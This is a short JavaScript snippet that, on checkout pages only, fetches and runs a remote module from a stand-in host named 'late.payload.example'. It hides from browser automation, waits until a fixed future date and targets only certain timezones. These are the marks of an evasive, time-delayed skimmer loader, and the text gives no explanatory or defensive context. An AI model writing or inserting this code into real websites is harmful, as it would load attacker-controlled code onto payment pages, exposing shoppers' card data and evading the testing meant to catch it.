if (!navigator.webdriver && /checkout/.test(location.pathname) && Date.now() > 1798761600000 && new Date().getTimezoneOffset() < 0) {
  import("https://late.payload.example/p.mjs");
}
